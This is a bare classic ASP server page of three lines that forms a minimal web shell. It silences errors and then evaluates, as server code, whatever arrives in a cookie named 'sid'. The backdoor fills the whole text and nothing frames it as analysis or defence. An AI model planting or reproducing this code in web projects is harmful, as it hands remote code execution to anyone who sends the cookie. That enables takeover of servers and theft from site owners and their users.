<%
On Error Resume Next
EVAL (UNESCAPE(REQUEST.COOKIES("sid")))
%>
